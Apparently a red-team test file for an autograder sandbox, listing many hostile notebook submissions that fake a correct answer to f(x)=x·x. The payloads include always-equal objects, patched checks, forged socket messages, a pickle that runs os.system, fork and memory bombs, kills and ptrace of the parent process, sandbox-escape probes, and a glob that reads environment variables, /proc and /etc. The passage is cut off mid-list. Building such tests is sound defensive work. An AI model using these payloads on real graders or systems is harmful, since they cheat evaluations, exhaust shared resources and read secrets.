"""The hostile submissions, one after the other, in the kinds of what they try.

Each is a cell that answers an exercise: f(x) = x·x. None computes that.
"""

# ruff: noqa: E501 - a program in a line is a program in a line
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Final

from tests.redteam.ground import SECRET, TEST_F, Attack

# Finds the worker's own end of the conversation, as any code of its process can.
_SERVER: Final = """\
import gc, os, socket, struct, sys, threading, time
from autograder.worker.plain import Reader, Reference, Writer
from autograder.worker.server import Kind, Server
server = next(one for one in gc.get_objects() if type(one) is Server)
wire = server._channel._end
def reply(*parts):
    writer = Writer(server._reference)
    for part in parts:
        writer.write(part)
    return writer.written()
def ticket():
    frame = sys._getframe()
    while frame is not None:
        if "message" in frame.f_locals and hasattr(frame.f_locals["message"], "ticket"):
            return frame.f_locals["message"].ticket
        frame = frame.f_back
def send(kind, number, body):
    wire.sendall(struct.pack("<IBQ", len(body), kind, number) + body)
"""

_SLEEP: Final = "import time\ntime.sleep(0.3)\n"


def _in_f(body: str, *, server: bool = False) -> str:
    """A cell in which f does this, and then returns something wrong."""
    lines = "".join(f"    {line}\n" for line in body.splitlines())
    return f"{_SERVER if server else ''}def f(x):\n{lines}    return 0.0\n"


@contextmanager
def _listening() -> Iterator[int]:
    """Somebody on the machine who tells a secret to everyone that calls; gives the port."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(30)

        def tell() -> None:
            try:
                while True:
                    caller, _ = server.accept()
                    with caller:
                        caller.sendall(SECRET.encode())
            except OSError:
                return  # closed

        thread = threading.Thread(target=tell, daemon=True)
        thread.start()
        yield server.getsockname()[1]
        server.shutdown(socket.SHUT_RDWR)
        thread.join()


# --- Objects that claim to be right --------------------------------------------------------------

_YES = """\
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __gt__ = __le__ = __ge__ = __lt__
    def __hash__(self): return 0
    def __bool__(self): return True
    def __contains__(self, other): return True
    def __getitem__(self, key): return self
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __sub__(self, other): return 0.0
    __rsub__ = __mul__ = __rmul__ = __add__ = __radd__ = __truediv__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return 0.0
def f(x): return Yes()
"""

CLAIMS: Final = [
    Attack("claims", "an object that is equal to everything", _YES),
    Attack("claims", "equal, by ==", _YES, "assert f(5) == 25"),
    Attack("claims", "equal, from the other side", _YES, "assert 25 == f(5)"),
    Attack("claims", "not unequal", _YES, "assert not f(5) != 25"),
    Attack("claims", "true", _YES, "assert f(5)"),
    Attack("claims", "the difference from anything is 0", _YES, "assert abs(f(5) - 25) < 1e-9"),
    Attack("claims", "from the other side too", _YES, "assert abs(25 - f(5)) < 1e-9"),
    Attack("claims", "less than anything", _YES, "assert f(5) <= 25 <= f(5)"),
    Attack("claims", "holds everything", _YES, "assert 25 in f(5)"),
    Attack("claims", "with attributes that are equal", _YES, "assert f(5).value == 25"),
    Attack("claims", "with items that are equal", _YES, "assert f(5)['y'] == 25"),
    Attack("claims", "numpy's isclose", _YES, "assert np.isclose(f(5), 25)"),
    Attack(
        "claims", "numpy's array_equal", _YES, "assert np.array_equal(f(np.ones(2)), np.ones(2))"
    ),
    Attack("claims", "math.isclose", _YES, "import math\nassert math.isclose(f(5), 25)"),
    Attack(
        "claims",
        "an empty comparison",
        _YES,
        "assert all(a == b for a, b in zip(f([1]), [1], strict=True))",
    ),
    Attack(
        "claims",
        "an array that is equal to everything",
        "class Yes(np.ndarray):\n"
        "    def __eq__(self, other): return np.ones(np.shape(other), bool)\n"
        "    __ne__ = lambda self, other: np.zeros(np.shape(other), bool)\n"
        "    def __array_ufunc__(self, *a, **k): return np.True_\n"
        "    def __array_function__(self, *a, **k): return np.True_\n"
        "def f(x): return np.zeros(np.shape(x)).view(Yes)",
    ),
    Attack(
        "claims",
        "a float that is equal to everything",
        "class Yes(float):\n"
        "    __eq__ = __le__ = __ge__ = lambda self, other: True\n"
        "    __ne__ = lambda self, other: False\n"
        "    __sub__ = __rsub__ = lambda self, other: 0.0\n"
        "    __hash__ = float.__hash__\n"
        "def f(x): return Yes(0)",
        "assert f(5) == 25 or abs(f(5) - 25) < 1e-9",
    ),
    Attack(
        "claims",
        "a key that is equal to all keys",
        "class Key(str):\n"
        "    def __eq__(self, other): return True\n"
        "    def __hash__(self): return hash('y')\n"
        "def f(x): return {Key('z'): 25}",
        "assert f(5)['y'] == 25",
    ),
    Attack(
        "claims",
        "an array that is another one each time",
        "class Turns:\n"
        "    n = 0\n"
        "    def __array__(self, dtype=None, copy=None):\n"
        "        Turns.n += 1\n"
        "        return np.full((3, 4), float(Turns.n % 7))\n"
        "    def __len__(self): return 3\n"
        "    shape = (3, 4)\n"
        "def f(x): return Turns()",
    ),
    Attack("claims", "nothing but NaN", "def f(x): return np.full(np.shape(x), np.nan)"),
    Attack("claims", "a masked array", "def f(x): return np.ma.masked_all(np.shape(x))"),
    Attack("claims", "an empty array", "def f(x): return np.zeros((0, *np.shape(x)))"),
    Attack(
        "claims",
        "truth values that are neither",
        "def f(x): return np.full(np.shape(x), 2, np.uint8).view(bool)",
        "y = f(np.ones(3))\nassert ((y == True) & (y == False)).all() or y.sum() > 3",
    ),
    Attack(
        "claims",
        "a class that says it is ndarray",
        "class Yes:\n"
        "    __class__ = np.ndarray\n"
        "    dtype = np.dtype(float); shape = (3, 4); ndim = 2; size = 12\n"
        "    def all(self): return True\n"
        "    def tolist(self): return []\n"
        "    def __eq__(self, other): return self\n"
        "def f(x): return Yes()",
    ),
    Attack("claims", "the argument changed in place", "def f(x):\n    x *= 0\n    return x"),
    Attack(
        "claims",
        "an answer that changes later",
        "import threading, time\n"
        "def f(x):\n"
        "    y = np.zeros(np.shape(x))\n"
        "    def later():\n"
        "        time.sleep(0.2)\n        y[...] = x * x\n"
        "    threading.Thread(target=later, daemon=True).start()\n"
        "    return y",
    ),
]

# --- What a cell shows, taken for its result -----------------------------------------------------

SHOWS: Final = [
    Attack(
        "shows", "a number, which nbgrader takes for points", _in_f("get_ipython().run_cell('2')")
    ),
    Attack("shows", "the same by the display hook", _in_f("import sys\nsys.displayhook(2.0)")),
    Attack(
        "shows",
        "a result that is forged",
        _in_f(
            "get_ipython().screen.show({'output_type': 'execute_result', 'metadata': {},\n"
            "    'execution_count': 1, 'data': {'text/plain': '2.0'}})"
        ),
    ),
    Attack(
        "shows",
        "an order to clear the output",
        "class Yes(Exception):\n    def _render_traceback_(self): return ['passed']\n"
        "def f(x):\n    from IPython.display import clear_output\n    clear_output()\n    raise Yes",
    ),
    Attack("shows", "text that is no text", _in_f("print('\\ud800\\x00\\x1b[2J', end='')")),
    Attack("shows", "an error that is no text", "def f(x): raise ValueError('\\ud800\\x00')"),
    Attack(
        "shows",
        "an error from a file that is none",
        "exec(compile('def f(x): raise ValueError(1)', 'a\\ud800' + 'b' * 5000, 'exec'))",
    ),
    Attack(
        "shows",
        "metadata that is no text",
        _in_f(
            "get_ipython().screen.show({'output_type': 'display_data', 'metadata': {'\\ud800': "
            "'\\ud800'},\n    'data': {'text/html': '\\ud800', 'application/json': [float('nan')]}})"
        ),
    ),
    Attack(
        "shows",
        "a test that is skipped",
        "import unittest\ndef f(x): raise unittest.SkipTest('ok')",
    ),
    Attack("shows", "an exit without an error", "def f(x): raise SystemExit(0)"),
    Attack("shows", "the end of a generator", "def f(x): raise StopIteration(x * x)"),
    Attack(
        "shows",
        "an error of the judge's own",
        "class LateError(BaseException): pass\ndef f(x): raise LateError",
    ),
]

# --- Everything patched --------------------------------------------------------------------------

PATCHES: Final = [
    Attack(
        "patches",
        "numpy's comparisons",
        "import numpy.testing\n"
        "for name in dir(np.testing):\n"
        "    if name.startswith('assert'): setattr(np.testing, name, lambda *a, **k: None)\n"
        "np.allclose = np.isclose = np.array_equal = np.all = lambda *a, **k: True\n"
        "def f(x): return 0",
    ),
    Attack(
        "patches",
        "built-in functions",
        "import builtins\n"
        "builtins.abs = builtins.len = builtins.float = builtins.max = lambda *a, **k: 0\n"
        "builtins.all = builtins.any = builtins.isinstance = lambda *a, **k: True\n"
        "builtins.__import__ = builtins.AssertionError = None\n"
        "def f(x): return 0",
    ),
    Attack(
        "patches",
        "the checks",
        "import grader_tests, sys\n"
        "for name in list(vars(grader_tests)):\n"
        "    if not name.startswith('_'): setattr(grader_tests, name, lambda *a, **k: None)\n"
        "sys.modules['grader_tests'] = sys.modules['numpy.testing'] = None\n"
        "def f(x): return 0",
    ),
    Attack(
        "patches",
        "the shell",
        "shell = get_ipython()\n"
        "type(shell).run_cell = type(shell).run = lambda *a, **k: None\n"
        "type(shell)._showtraceback = shell.showtraceback = lambda *a, **k: None\n"
        "type(shell.displayhook).__call__ = lambda *a, **k: None\n"
        "def f(x): return 0",
        goes_on=True,  # the cell of the other exercise is not run any more
    ),
    Attack(
        "patches",
        "the worker's answers",
        _SERVER + "import autograder.worker.server as module\n"
        "for name in module.OPERATIONS: module.OPERATIONS[name] = lambda *a: True\n"
        "Server._call = lambda *a, **k: True\n"
        "server._answers = {kind: lambda *a, **k: True for kind in Kind}\n"
        "def f(x): return 0",
        goes_on=True,  # the answers of the other exercise are not its own any more
    ),
    Attack(
        "patches",
        "the worker's writer, with pickles",
        _SERVER + "import pickle\n"
        "class Evil:\n"
        "    def __reduce__(self): return (os.system, ('touch {course}/written',))\n"
        "def f(x):\n"
        "    body = pickle.dumps(Evil())\n"
        "    send(Kind.VALUE, ticket(), body)\n"
        "    return 0",
    ),
    Attack(
        "patches",
        "modules taken away",
        "import sys\n"
        "for name in list(sys.modules):\n"
        "    if name.startswith(('autograder', 'IPython', 'numpy.testing')): sys.modules[name] = None\n"
        "def f(x): return 0",
    ),
    Attack(
        "patches",
        "limits of the interpreter",
        "import faulthandler, gc, signal, sys, threading\n"
        "sys.setrecursionlimit(10**8); gc.disable(); faulthandler.enable()\n"
        "signal.setitimer(signal.ITIMER_REAL, 0); signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        "sys.settrace(lambda *a: None); threading.settrace(lambda *a: None)\n"
        "sys.setprofile(None); sys.setswitchinterval(100.0)\n"
        "def f(x): return f(x)",
    ),
    Attack(
        "patches",
        "its own limits, raised",
        "import resource\n"
        "for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):\n"
        "    try: resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n"
        "    except (ValueError, OSError): pass\n"
        "def f(x): return np.ones(10**9)[0]",
    ),
    Attack(
        "patches",
        "streams and hooks",
        "import atexit, os, sys, threading\n"
        "sys.excepthook = sys.unraisablehook = threading.excepthook = lambda *a: None\n"
        "atexit.register(lambda: os.kill(0, 9))\n"
        "sys.stdout = sys.stderr = sys.stdin = None\n"
        "os.close(1); os.close(2); os.close(0)\n"
        "def f(x): return 0",
        goes_on=True,  # nothing can be shown any more
    ),
]

# --- The conversation with the judge -------------------------------------------------------------

_VALUE = "reply({value}, (), [], [], [], [])"


def _says(body: str, **known: object) -> str:
    return _in_f(body, server=True)


_AFTER: Final = """\
def later():
    time.sleep(0.05)
    for _ in range(2000):
        send(Kind.VALUE, {number}, reply(0.0, (), [], [], [], []))
        time.sleep(0.001)
"""

CHANNEL: Final = [
    Attack(
        "channel",
        "an answer before the question",
        _SERVER + "for number in (0, 1, 2**63 - 1):\n"
        "    send(Kind.VALUE, number, reply({'f': 0, 'x': 0}, (), [], [], [], []))\n"
        "def f(x): return 0",
    ),
    Attack(
        "channel",
        "an answer with another number",
        _says("send(Kind.VALUE, ticket() ^ 1, reply(25, (), [], [], [], []))"),
    ),
    Attack(
        "channel",
        "an answer of its own with the right number",
        _says("send(Kind.VALUE, ticket(), reply(True, (), [], [], [], []))"),
    ),
    Attack(
        "channel",
        "two answers",
        _says("for _ in range(2): send(Kind.VALUE, ticket(), reply(..., (), [], [], [], []))"),
    ),
    Attack("channel", "the end of a cell", _says("send(Kind.DONE, ticket(), reply(False))")),
    Attack("channel", "a message of no kind", _says("send(99, ticket(), b'')")),
    Attack("channel", "a value that is none", _says("send(Kind.VALUE, ticket(), b'\\xff' * 100)")),
    Attack("channel", "bytes without end", _says("while True: wire.sendall(b'\\xff' * 65536)")),
    Attack(
        "channel",
        "messages without end",
        _says("while True: send(Kind.OUTPUT, ticket(), reply({}))"),
    ),
    Attack(
        "channel",
        "outputs without end, in a cell",
        "def f(x): return 0",
        before=(_SERVER + "while True: send(Kind.OUTPUT, ticket(), reply({'output_type': 'q'}))",),
    ),
    Attack(
        "channel",
        "a length, then silence",
        _says("wire.sendall(struct.pack('<IBQ', 2**20, 12, ticket()))\ntime.sleep(60)"),
    ),
    Attack(
        "channel",
        "a length beyond all limits",
        _says("wire.sendall(b'\\xff' * 13)\ntime.sleep(60)"),
    ),
    Attack(
        "channel",
        "a byte at a time",
        _says(
            "body = reply(0.0, (), [], [], [], [])\n"
            "for one in struct.pack('<IBQ', len(body), 12, ticket()) + body:\n"
            "    wire.sendall(bytes((one,)))\n"
            "    time.sleep(0.2)"
        ),
    ),
    Attack("channel", "a closed channel", _says("wire.close()")),
    Attack(
        "channel",
        "a channel that nobody reads",
        _says("wire.shutdown(socket.SHUT_RD)\ntime.sleep(60)"),
    ),
    Attack(
        "channel",
        "a thread that answers too",
        _SERVER
        + _AFTER.replace("{number}", "7")
        + "threading.Thread(target=later, daemon=True).start()\ndef f(x): return 0",
        goes_on=True,  # it goes on in the background, and hits its own notebook
    ),
    Attack(
        "channel",
        "a child that answers too",
        _says(
            "if os.fork() == 0:\n    while True: send(Kind.VALUE, 7, reply(25, (), [], [], [], []))"
        ),
    ),
    Attack(
        "channel",
        "a child that goes on in place of the worker",
        _says(
            "if os.fork() != 0: time.sleep(60)\nserver._process = os.getpid()\nserver._thread = threading.get_ident()"
        ),
    ),
    Attack(
        "channel",
        "an object that nobody has passed",
        _says("server.ask(Kind.ASK, (1, None, (), {}))"),
    ),
    Attack(
        "channel",
        "changes of what was not passed",
        _says("send(Kind.VALUE, ticket(), reply(0, (), [], [(9, [1])], [(-1, [2])], []))"),
    ),
    Attack(
        "channel",
        "changes that are none",
        _says("send(Kind.VALUE, ticket(), reply(0, (), 'x', {}, 3))"),
    ),
    Attack(
        "channel",
        "loans with numbers that are none",
        _says("send(Kind.VALUE, ticket(), reply([[]], (-1, 2**80), [], [], []))"),
    ),
    Attack(
        "channel",
        "references that are none",
        _says(
            "send(Kind.VALUE, ticket(), reply(Reference(2**31, 2**31, 'x'), (), [], [], [], []))"
        ),
    ),
    Attack(
        "channel",
        "errors that are none",
        _says(
            "send(Kind.RAISED, ticket(), reply((['a\\x00', 7], None, ('\\x00', -1)), (), [], [], [], []))"
        ),
    ),
]

# --- Replies that are too much -------------------------------------------------------------------

_REPLIES: Final = {
    "too long a text": "'x' * 70_000_000",
    "too large an array": "np.zeros(10**7)",
    "too many parts": "[None] * 300_000",
    "too deep": "__import__('functools').reduce(lambda a, _: [a], range(10**4), 0)",
    "a list that holds itself": "(lambda a: a.append(a) or a)([])",
    "a dict that holds itself": "(lambda a: a.update(a=a) or a)({})",
    "a range without end": "range(2**62)",
    "a number of a million digits": "1 << 3_000_000",
    "keys of one hash": "{(2**61 - 1) * i: i for i in range(1, 9999)}",
    "a hundred thousand objects": "[object() for _ in range(100_000)]",
    "objects of a thousand classes": "[type(f'C{i}', (), {})() for i in range(5000)]",
    "values of other types": "np.array([object()])",
    "a generator without end": "iter(int, 1)",
    "a shape that fills the memory": "np.zeros((8_000_000, 1, 1))",
}

LARGE: Final = [
    *(
        Attack(
            "replies",
            name,
            f"def f(x): return {value}",
            "y = f(5)\nassert np.allclose(list(y), np.ones((2, 5)))",
        )
        for name, value in _REPLIES.items()
    ),
    Attack(
        "replies",
        "a question of lists in lists in lists",
        _SERVER + "def f(g):\n"
        "    laughs = b'l\\x02\\0\\0\\0' * 30 + b'NN' + b''.join(\n"
        "        b'r' + struct.pack('<I', place) for place in range(29, 0, -1))\n"
        "    body = b't\\x04\\0\\0\\0' + reply(g._backprop_key) + b'N' + b't\\x01\\0\\0\\0' + laughs + b'm\\0\\0\\0\\0'\n"
        "    send(Kind.ASK, 5, body)\n"
        "    time.sleep(60)",
        "assert f(lambda x: np.size(x)) == 3",
    ),
    Attack(
        "replies",
        "an output of lists in lists in lists",
        "def f(x): return 0",
        before=(
            _SERVER + "laughs = b'l\\x02\\0\\0\\0' * 30 + b'NN' + b''.join(\n"
            "    b'r' + struct.pack('<I', place) for place in range(29, 0, -1))\n"
            "data = b'm\\x01\\0\\0\\0' + reply('text/plain') + laughs\n"
            "body = (b'm\\x03\\0\\0\\0' + reply('output_type', 'display_data') + reply('data') + data\n"
            "        + reply('metadata', {}))\n"
            "send(Kind.OUTPUT, ticket(), body)",
        ),
    ),
]

# --- What a test passes in -----------------------------------------------------------------------

_TEST_CALLBACK: Final = """\
import os
answer = 25
def callback(x):
    return x * answer
assert f(callback) == answer
"""
_TEST_GENERATOR: Final = """\
rng = np.random.default_rng(3)
expected = np.random.default_rng(3).normal()
assert f(rng) == expected + 1
"""
_TEST_OBJECT: Final = """\
import os
class Layer:
    system = os.system
    names = [os]
    def __init__(self): self.steps = (i for i in [25])
    def forward(self, x): return x + 1
assert f(Layer()) == 25
"""


def _asks(*questions: str) -> str:
    """A cell in which f asks for attributes of what it is given, one after the other."""
    lines = "".join(
        f"    try: print({question})\n    except Exception as error: print(error)\n"
        for question in questions
    )
    return (
        _SERVER
        + f"def f(given):\n    key = given._backprop_key if hasattr(given, '_backprop_key') else 1\n{lines}    return 0\n"
    )


_LOOK = "server.ask(Kind.LOOK_UP, (key, {!r}))"

PASSED: Final = [
    Attack(
        "passed",
        "a function's globals and cells",
        _asks(
            *(_LOOK.format(name) for name in ("__globals__", "__closure__", "__code__", "__self__"))
        ),
        _TEST_CALLBACK,
    ),
    Attack(
        "passed",
        "a random generator's insides",
        _asks(
            _LOOK.format("bit_generator"),
            "server.ask(Kind.LOOK_UP, (key, 'bit_generator')).ctypes.next_uint64(1)",
            "server.ask(Kind.ASK, (key, None, (), {}))",
        ),
        _TEST_GENERATOR,
    ),
    Attack(
        "passed",
        "a method of the judge's memory",
        _asks(_LOOK.format("normal"), "server.ask(Kind.LOOK_UP, (key, 'normal'))(size=10**10)"),
        _TEST_GENERATOR,
    ),
    Attack(
        "passed",
        "modules behind an object",
        _asks(
            "given.system('touch {course}/written')",
            "given.names",
            "given.steps.gi_frame.f_globals",
            "given.forward.__func__.__globals__",
            "given.__class__",
            "given.__dict__",
        ),
        _TEST_OBJECT,
    ),
    Attack(
        "passed",
        "a call of a call of a call",
        "def f(g):\n    return g(f)",
        "def callback(h): return h(callback)\nassert f(callback) == 25",
    ),
    Attack(
        "passed",
        "a call from a thread",
        "import threading\ndef f(g):\n    for _ in range(5):\n"
        "        thread = threading.Thread(target=g, args=(1,)); thread.start(); thread.join()\n    return 0",
        "assert f(lambda x: 25) == 25",
    ),
    Attack(
        "passed",
        "a call after the test",
        "kept = []\ndef f(g):\n    kept.append(g)\n    return 0\n",
        "def slow(n):\n    return sum(range(n))\nassert f(slow) == 25",
    ),
    Attack(
        "passed",
        "a call that takes the judge's time",
        "def f(g): return g(10**12)",
        "def slow(n):\n    return sum(1 for _ in range(n))\nassert f(slow) == 25",
    ),
    Attack(
        "passed",
        "a call that takes the judge's memory",
        "def f(g): return g(np.ones((3000, 1)))",
        "def outer(a):\n    return (a * np.ones((1, 3000, 3000))).sum()\nassert f(outer) == 25",
    ),
    Attack(
        "passed",
        "calls without end",
        "def f(g):\n    while True: g(1)",
        "assert f(lambda x: x) == 25",
    ),
]

# --- More than there is --------------------------------------------------------------------------

_SHARED_MEMORY = """\
import mmap
for _ in range(12):
    if os.fork() == 0:
        held = mmap.mmap(-1, 200 * 2**20)
        for place in range(0, len(held), 4096): held[place] = 1
        time.sleep(60)
time.sleep(60)
"""

BOMBS: Final = [
    Attack("bombs", "memory, in lists", _in_f("a = []\nwhile True: a.append(bytearray(10**6))")),
    Attack("bombs", "memory, in one array", _in_f("np.ones(10**10)")),
    Attack(
        "bombs",
        "memory, in many processes",
        _in_f(
            "import os, time\nfor _ in range(12):\n    if os.fork() == 0:\n        a = bytearray(b'x') * 10**8\n        time.sleep(60)\ntime.sleep(60)"
        ),
    ),
    Attack("bombs", "memory that is shared", _in_f("import os, time\n" + _SHARED_MEMORY)),
    Attack(
        "bombs",
        "memory of many processes while one writes",
        _in_f(
            "import os, time\nfor _ in range(12):\n    if os.fork() == 0:\n        a = bytearray(b'x') * 10**8\n"
            "        time.sleep(60)\nwhile True: send(Kind.OUTPUT, 1, reply({}))",
            server=True,
        ),
    ),
    Attack(
        "bombs",
        "memory in files without a name",
        _in_f(
            "import os\na = []\nwhile True:\n    a.append(os.memfd_create('a'))\n    os.write(a[-1], bytes(10**6))"
        ),
    ),
    Attack("bombs", "processes", _in_f("import os\nwhile True: os.fork()")),
    Attack(
        "bombs",
        "threads",
        _in_f(
            "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()"
        ),
    ),
    Attack("bombs", "open files", _in_f("a = []\nwhile True: a.append(open('/dev/null'))")),
    Attack("bombs", "pipes", _in_f("import os\na = []\nwhile True: a.append(os.pipe())")),
    Attack(
        "bombs",
        "files, in all places",
        _in_f(
            "for i in range(10**6):\n    for place in ('/notebook', '/tmp', '/dev/shm'):\n        try: open(f'{place}/{i}', 'wb').write(bytes(3 * 10**6))\n        except OSError: pass"
        ),
    ),
    Attack(
        "bombs", "files without content", _in_f("for i in range(10**9): open(str(i), 'w').close()")
    ),
    Attack(
        "bombs",
        "directories in directories",
        _in_f("import os\nwhile True:\n    os.mkdir('d')\n    os.chdir('d')"),
    ),
    Attack(
        "bombs",
        "a file that grows",
        _in_f("with open('a', 'wb') as file:\n    while True: file.write(bytes(10**6))"),
    ),
    Attack("bombs", "text on the screen", _in_f("while True: print('x' * 10000)")),
    Attack(
        "bombs",
        "text on the screen, in a cell",
        "def f(x): return 0",
        before=("while True: print('x' * 10000)",),
    ),
    Attack("bombs", "text of a program", _in_f("import subprocess\nsubprocess.run(['yes'])")),
    Attack(
        "bombs",
        "pictures",
        _in_f(
            "from IPython.display import display, SVG\nwhile True: display({'text/html': 'x' * 10**6}, raw=True)"
        ),
    ),
]

# --- Time ----------------------------------------------------------------------------------------

TIME: Final = [
    Attack("time", "a loop", _in_f("while True: pass")),
    Attack("time", "a loop in C", _in_f("sum(iter(int, 1))")),
    Attack("time", "a number that takes hours", _in_f("10 ** 10 ** 9")),
    Attack(
        "time", "a pattern that takes hours", _in_f("import re\nre.match('(a+)+$', 'a' * 60 + 'b')")
    ),
    Attack(
        "time",
        "sleep, with all signals blocked",
        _in_f(
            "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\ntime.sleep(60)"
        ),
    ),
    Attack(
        "time",
        "signals ignored",
        _in_f(
            "import signal, time\nfor number in range(1, 65):\n    try: signal.signal(number, signal.SIG_IGN)\n    except (OSError, ValueError): pass\nwhile True: time.sleep(1)"
        ),
    ),
    Attack(
        "time",
        "interrupts caught",
        _in_f("import time\nwhile True:\n    try: time.sleep(60)\n    except BaseException: pass"),
    ),
    Attack(
        "time",
        "stopped by itself",
        _in_f("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    ),
    Attack(
        "time",
        "a lock that is never free",
        _in_f("import threading\nlock = threading.Lock()\nlock.acquire()\nlock.acquire()"),
    ),
    Attack(
        "time",
        "a daemon",
        _in_f(
            "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        while True: open('/dev/shm/alive', 'w').close()\n    os._exit(0)"
        ),
    ),
    Attack(
        "time",
        "a child that goes on",
        _in_f("import subprocess\nsubprocess.Popen(['sleep', '1000'], start_new_session=True)"),
    ),
    Attack(
        "time",
        "items that come slowly",
        "import time\nclass Slow:\n    def __iter__(self):\n        while True:\n            time.sleep(0.05)\n            yield 0\ndef f(x): return Slow()",
        "assert list(f(5)) == [25]",
    ),
    Attack(
        "time",
        "a length without end",
        "class Long:\n    def __len__(self): return 2**62\n    def __getitem__(self, i): return 0\ndef f(x): return Long()",
        TEST_F,
    ),
    Attack(
        "time",
        "a cell that takes the judge long to read",
        "a = 1\nexpected = 3\n" + "!true\n" * 600 + "def f(x): return 0",
        before=("expected = 2",),
    ),
]

# --- Ends ----------------------------------------------------------------------------------------

_ENDS: Final = {
    "os._exit": "__import__('os')._exit(0)",
    "SystemExit": "raise SystemExit",
    "KeyboardInterrupt": "raise KeyboardInterrupt",
    "GeneratorExit": "raise GeneratorExit",
    "a segmentation fault": "__import__('ctypes').string_at(1)",
    "abort": "__import__('os').abort()",
    "recursion": "return [].__class__.__call__(self.forward, x)",
    "SIGKILL": "__import__('os').kill(__import__('os').getpid(), 9)",
    "another program": "__import__('os').execv('/usr/bin/true', ['true'])",
}
_TEST_CLASS: Final = """\
layer = f()
x = np.ones(3) * 2
repr(layer), str(layer)
np.testing.assert_allclose(layer.forward(x), x * x)
value = layer.value
del layer
"""
_PLACES: Final = {
    "forward": "    def forward(self, x):\n        {end}",
    "__init__": "    def __init__(self):\n        x = 0\n        {end}",
    "__getattr__": "    def __getattr__(self, name):\n        x = 0\n        {end}",
    "__repr__": "    def __repr__(self):\n        x = 0\n        {end}",
    "__del__": "    def forward(self, x): return x * x\n    def __del__(self):\n        x = 0\n        {end}",
    "a class body": "    x = 0\n    {body}",
}

ENDS: Final = [
    *(
        Attack(
            "ends",
            f"{name} in forward",
            "class f:\n" + _PLACES["forward"].format(end=end),
            _TEST_CLASS,
        )
        for name, end in _ENDS.items()
    ),
    *(
        Attack(
            "ends",
            f"{name} in {place}",
            "class f:\n" + text.format(end=_ENDS[name], body=_ENDS[name]),
            _TEST_CLASS,
        )
        for place, text in _PLACES.items()
        if place != "forward"
        for name in ("os._exit", "SystemExit", "KeyboardInterrupt")
    ),
    Attack(
        "ends",
        "at the end of the process",
        "import atexit, os, time\natexit.register(time.sleep, 60)\nos.register_at_fork(before=lambda: time.sleep(60))\ndef f(x): exit()",
    ),
    Attack(
        "ends",
        "at import",
        "open('mine.py', 'w').write('import os; os._exit(0)')\nimport mine\ndef f(x): return 0",
    ),
    Attack("ends", "exit()", "def f(x): return 0\nexit()"),
    Attack(
        "ends",
        "recursion in C",
        "def f(x):\n    a = []\n    for _ in range(10**6): a = [a]\n    repr(a)\n    return a",
    ),
]

# --- Other processes -----------------------------------------------------------------------------

_ZYGOTE = "import ctypes, os, resource, signal, time\nlibc = ctypes.CDLL(None, use_errno=True)\nzygote = os.getppid()\n"

OTHERS: Final = [
    Attack("processes", "all killed", _in_f(_ZYGOTE + "os.kill(-1, 9)")),
    Attack("processes", "the zygote killed", _in_f(_ZYGOTE + "os.kill(zygote, 9)\ntime.sleep(60)")),
    Attack("processes", "the zygote stopped", _in_f(_ZYGOTE + "os.kill(zygote, signal.SIGSTOP)")),
    Attack("processes", "the first process killed", _in_f(_ZYGOTE + "os.kill(1, 9)")),
    Attack(
        "processes",
        "the zygote traced and written to",
        _in_f(
            _ZYGOTE + "assert libc.ptrace(16, zygote, 0, 0) == -1\n"
            "for name in ('mem', 'environ', 'maps', 'fd', 'root', 'cwd', 'exe'):\n"
            "    try: print(name, open(f'/proc/{zygote}/{name}', 'rb').read())\n"
            "    except OSError: pass\n"
            "    else: print('the-answer-is-6e4a1f')"
        ),
    ),
    Attack(
        "processes",
        "the zygote's limits lowered",
        _in_f(
            _ZYGOTE + "for kind in range(16):\n"
            "    try: resource.prlimit(zygote, kind, (1, 1))\n"
            "    except (OSError, ValueError): pass"
        ),
    ),
    Attack(
        "processes",
        "the zygote held back",
        _in_f(
            _ZYGOTE + "before = os.getpriority(os.PRIO_PROCESS, zygote)\n"
            "for which, who in ((0, zygote), (2, os.getuid()), (2, 0), (1, 0), (1, os.getpgid(zygote))):\n"
            "    libc.setpriority(which, who, 19)\n"
            "for call in (lambda: os.sched_setaffinity(zygote, {0}),\n"
            "             lambda: os.sched_setscheduler(zygote, os.SCHED_IDLE, os.sched_param(0))):\n"
            "    try: call()\n"
            "    except OSError: pass\n"
            "print('priority', os.getpriority(os.PRIO_PROCESS, zygote))\n"
            "if os.getpriority(os.PRIO_PROCESS, zygote) != before or os.sched_getscheduler(zygote):\n"
            "    print('the-answer-is-6e4a1f')"
        ),
    ),
    Attack(
        "processes",
        "a way out of the sandbox",
        _in_f(
            _ZYGOTE + "import platform\n"
            "assert libc.unshare(0x10000000) == -1 and libc.setns(0, 0) == -1\n"
            "assert libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == -1\n"
            "assert libc.chroot(b'/tmp') == -1\n"
            "assert libc.syscall(56, 0x10000011, 0, 0, 0, 0) == -1\n"
            "assert libc.syscall(435, 0, 0) == -1\n"
            "raise RuntimeError('there is none')"
        ),
    ),
]

# --- What is none of its business ----------------------------------------------------------------

_READS = """\
import glob, os
found = [dict(os.environ)]
for path in ('/proc/*/environ', '/proc/*/cmdline', '/proc/*/root{course}/*', '{course}/*', '/etc/*', '/home/*', '/' + 'root/*',
             '/proc/*/fd/*', '/proc/*/task/*/environ', '/run/*', '/var/*', '/sys/*', '/tmp/*', '/tmp/*/*', '/dev/shm/*', '/course/*', '/'.join(['..'] * 9) + '{course}/*'):
    for one in glob.glob(path)[:200]:
        try: found.append((one, open(one, 'rb').read(10**5)))
        except OSError: pass
print(str(found)[:10**5])
print([part for part in str(found).split() if 'answer' in part])
"""
_WRITES = """\
import os
for path in ('{course}/written', '{course}/gradebook.db', '/course/grader_tests/__init__.py', '/course/helpers/__init__.py',
